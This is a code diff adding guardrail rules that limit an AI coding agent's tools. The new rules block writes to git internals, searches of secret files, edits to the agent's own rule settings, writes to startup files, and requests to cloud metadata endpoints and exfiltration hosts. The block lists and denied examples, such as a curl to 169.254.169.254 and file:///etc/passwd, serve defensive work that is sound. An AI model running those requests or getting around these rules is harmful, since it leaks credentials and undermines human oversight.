@@ -2327,7 +2327,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/git.tract", package: "tractatus.git",
-      sha256: "4edf8a8e81d04304ebf9ee086322e421f25a49571533abb858d838735af0d6d1",
+      sha256: "47edc983746d4c1b214d946de2177920a5ac03401321f0cb5524597285228499",
       #"""
       /// History and repositories: what cannot be undone, and what makes git run other programs.
       ///
@@ -2514,10 +2514,24 @@ enum EmbeddedPacks {
           expect deny by history
       }
 
+      sealed rule repository_file "No tool changes the repository behind git's back" {
+          on write_file, edit_file
+          deny when path like [
+                  "**/.git", "**/.git/**", "**/.gitconfig", "**/.config/git/**"
+              ] ignoring case
+              because "{path} changes the repository behind git's back, or what git runs."
+          offer "Keep hooks in a folder of the project, where reviewers see them."
+          example deny  write_file { path: "/work/app/.git/hooks/pre-commit", content: "" }
+          example deny  edit_file { path: "/work/app/.git/config" }
+          example deny  write_file { path: "/home/me/.gitconfig", content: "" }
+          example allow write_file { path: "/work/app/.githooks/pre-commit", content: "" }
+          example allow edit_file { path: "/work/app/.gitignore" }
+      }
+
       """#),
     PackFile(
       "tractatus/secrets.tract", package: "tractatus.secrets",
-      sha256: "610c835cf5ff223561ca5b5b192a5d8e2a9d536b1b6d71068f7b2cd4104ef80a",
+      sha256: "ffb3b995a42a301491f1fdb2c6dc4d1a856c8360756849e0b0259108ff7391e9",
       #"""
       /// Files that hold secrets: reading them, and sending them anywhere.
       ///
@@ -2736,6 +2750,19 @@ enum EmbeddedPacks {
           example allow { command: "printenv PATH" }
       }
 
+      sealed rule secret_search "Secret files are not searched by tools either" {
+          on search_files
+          deny when path? like private_files ignoring case because "{path} holds keys or passwords."
+          ask when path? like setting_files ignoring case because "{path} usually holds secrets."
+          deny when path? within private_places because "{path} holds keys or passwords."
+          example deny  { pattern: ".", path: "/home/me/.ssh/id_rsa" }
+              given { project: "/work/app", cwd: "/work/app" }
+          example deny  { pattern: ".", path: "~/.aws" } given { project: "/work/app", cwd: "/work/app" }
+          example ask   { pattern: ".", path: ".env" } given { project: "/work/app", cwd: "/work/app" }
+          example allow { pattern: "TODO", path: "src" } given { project: "/work/app", cwd: "/work/app" }
+          example allow { pattern: "TODO" }
+      }
+
       sealed rule secret_tools "Secret files are not opened by tools either" {
           on read_file, write_file, edit_file
           deny when path like private_files ignoring case because "{path} holds keys or passwords."
@@ -2768,7 +2795,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/self_protection.tract", package: "tractatus.self_protection",
-      sha256: "fcbcc5be8fff74f71b98d6b903f7b8fd83022d7d8229a2b2f35b513416e0d2a8",
+      sha256: "78a53ef2bf5f6f7c32b0cb6cb663fc744b3d29479b69ac8fee0f8e44aae8f5dc",
       #"""
       /// What governs an agent is not the agent's to change: rules, hook settings, state and logs.
       ///
@@ -2802,13 +2829,14 @@ enum EmbeddedPacks {
       sealed rule governed_command "No command changes the rules that govern it" {
           on bash
           deny when any c in command satisfies (
-                        c writes like governed_files and c writes outside ["/tmp", "/var/tmp"]
+                        c writes like governed_files ignoring case
+                        and c writes outside ["/tmp", "/var/tmp"]
                     )
                     and spells_the_rules
               because "This changes the rules, their settings or their records."
-          deny when command deletes like governed_files and spells_the_rules
+          deny when command deletes like governed_files ignoring case and spells_the_rules
               because "This deletes the rules, their settings or their records."
-          deny when command writes like governed_files
+          deny when command writes like governed_files ignoring case
                     and command matches />\s*["']?\S*(?:\.tract|\.claude|\.codex|\.cursor|\.gemini)/
               because "This changes the rules, their settings or their records."
           deny when command writes within governed_places and spells_the_rules
@@ -2936,13 +2964,16 @@ enum EmbeddedPacks {
 
       sealed rule governed_file "No tool changes the rules that govern it" {
           on write_file, edit_file
-          deny when path like governed_files because "{path} belongs to the rules that govern this agent."
+          deny when path like governed_files ignoring case
+              because "{path} belongs to the rules that govern this agent."
           deny when path within [
                   ".claude/hooks", ".tractatus", "~/.claude/hooks", "~/.tractatus", "~/.config/tractatus",
                   "/etc/tractatus", "/etc/claude-code"
               ]
               because "{path} belongs to the rules that govern this agent."
           example deny  write_file { path: "/work/app/.claude/settings.json", content: "" }
+              given { project: "/work/app", cwd: "/work/app" }
+          example deny  write_file { path: "/work/app/.Claude/Settings.JSON", content: "" }
               given { project: "/work/app", cwd: "/work/app" }
           example deny  edit_file { path: "/work/app/rules/platform.tract" }
               given { project: "/work/app", cwd: "/work/app" }
@@ -3036,7 +3067,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/shell.tract", package: "tractatus.shell",
-      sha256: "f9b442531857abee99c2a94fb5c1a01f43232e97a8c2efc8ae2adffedd46e718",
+      sha256: "76b1a30f7a8db9ca6f35d09c146cbb1d102ac378254da630c6fe0760ae3f709d",
       #"""
       /// What command-line programs do with their options and operands, and rules against hostile
       /// commands on a shell.
@@ -5742,6 +5773,29 @@ enum EmbeddedPacks {
               given { project: "/work/app", cwd: "/work/app" }
       }
 
+      sealed rule foreign_file "What no command may write, no tool writes" {
+          on write_file, edit_file
+          deny when path like devices because "{path} is a device itself."
+          deny when path within system_places and path outside work_places
+              because "{path} belongs to the machine."
+          deny when path within start_up_places
+              because "{path} changes what runs at the next login, or who may log in."
+          ask when path outside work_places
+              because "{path} lies outside the project and the temporary folders."
+          offer "Write a file of the project, and say where a person should put it."
+          example deny  write_file { path: "/etc/cron.d/job", content: "" }
+              given { project: "/work/app", cwd: "/work/app" }
+          example deny  edit_file { path: "~/.bashrc" } given { project: "/work/app", cwd: "/work/app" }
+          example ask   write_file { path: "../other/notes.txt", content: "" }
+              given { project: "/work/app", cwd: "/work/app" }
+          example allow write_file { path: "src/main.swift", content: "" }
+              given { project: "/work/app", cwd: "/work/app" }
+          example allow write_file { path: "/tmp/notes.txt", content: "" }
+              given { project: "/srv/app", cwd: "/srv/app" }
+          example allow edit_file { path: "/srv/app/main.c" }
+              given { project: "/srv/app", cwd: "/srv/app" }
+      }
+
       sealed rule fork_bomb "No command multiplies itself" {
           on bash
           deny when command pipes ":" into ":" because "This starts itself over and over."
@@ -5958,23 +6012,28 @@ enum EmbeddedPacks {
           example allow { command: "nc -z localhost 5432" }
       }
 
+      /// Where a machine's provider gives out its credentials.
+      let credential_hosts = [
+          "169.254.169.254", "169.254.170.2", "metadata.google.internal", "100.100.100.200",
+          "fd00:ec2::254"
+      ]
+      /// Hosts that pass on to others whatever they are sent.
+      let passing_hosts = [
+          "pastebin.com", "transfer.sh", "webhook.site", "requestbin.com", "requestbin.net",
+          "pipedream.net", "ngrok.io", "ngrok-free.app", "ngrok.app", "serveo.net",
+          "localtunnel.me", "burpcollaborator.net", "oastify.com", "oast.fun", "oast.pro",
+          "oast.live", "oast.site", "oast.online", "oast.me", "interact.sh", "0x0.st",
+          "file.io", "termbin.com", "paste.rs", "ix.io", "sprunge.us", "dpaste.org",
+          "hastebin.com", "bashupload.com", "anonfiles.com", "gofile.io", "dnslog.cn",
+          "ceye.io", "requestcatcher.com", "beeceptor.com", "canarytokens.com"
+      ]
+
       sealed rule hostile_host "Places that exist to take data out" {
           on bash
-          deny when command connects within [
-                        "169.254.169.254", "169.254.170.2", "metadata.google.internal", "100.100.100.200",
-                        "fd00:ec2::254"
-                    ]
+          deny when command connects within credential_hosts
                     and command matches /169|254|2852039166|0x|0?251|a9fe|metadata|100\.100|fd00|\\[xuU0-7]/i
               because "This asks the machine's provider for its credentials."
-          deny when command connects within [
-                        "pastebin.com", "transfer.sh", "webhook.site", "requestbin.com", "requestbin.net",
-                        "pipedream.net", "ngrok.io", "ngrok-free.app", "ngrok.app", "serveo.net",
-                        "localtunnel.me", "burpcollaborator.net", "oastify.com", "oast.fun", "oast.pro",
-                        "oast.live", "oast.site", "oast.online", "oast.me", "interact.sh", "0x0.st",
-                        "file.io", "termbin.com", "paste.rs", "ix.io", "sprunge.us", "dpaste.org",
-                        "hastebin.com", "bashupload.com", "anonfiles.com", "gofile.io", "dnslog.cn",
-                        "ceye.io", "requestcatcher.com", "beeceptor.com", "canarytokens.com"
-                    ]
+          deny when command connects within passing_hosts
                     and command matches /paste|transfer|hook|request|pipedream|ngrok|serveo|localtunnel|burp|oast|interact|0x0|file\.io|termbin|ix\.io|sprunge|bin\b|upload|anon|gofile|dnslog|ceye|canary|\w["'\\]+\w|\\[xuU0-7]/i
               because "This host exists to pass data on."
           ask when command runs "ssh" with "-R" because "This opens the machine to the network."
@@ -5985,6 +6044,22 @@ enum EmbeddedPacks {
           example deny  { command: "curl http://169.254.169.254/latest/meta-data/iam/" }
           example deny  { command: "curl -d hello https://WEBHOOK.site./abc" }
           example allow { command: "curl https://api.github.com/rate_limit" }
+      }
+
+      sealed rule hostile_request "Places that exist to take data out, asked by a tool" {
+          on http_request
+          deny when url within credential_hosts
+              because "This asks the machine's provider for its credentials."
+          deny when url within passing_hosts because "This host exists to pass data on."
+          deny when url.scheme == "file" because "This reads a file of the machine by a URL."
+          ask when not url.scheme in ["http", "https"] because "This is no address of the web."
+          example deny  { url: "http://169.254.169.254/latest/meta-data/iam/" }
+          example deny  { url: "http://2852039166/latest/meta-data/" }
+          example deny  { url: "https://webhook.site/abc" }
+          example deny  { url: "file:///etc/passwd" }
+          example ask   { url: "gopher://gopher.example/1" }
+          example allow { url: "https://api.github.com/rate_limit" }
+          example allow { url: "http://localhost:3000/health" }
       }
 
       sealed rule attack_tool "Tools that exist to break in" {
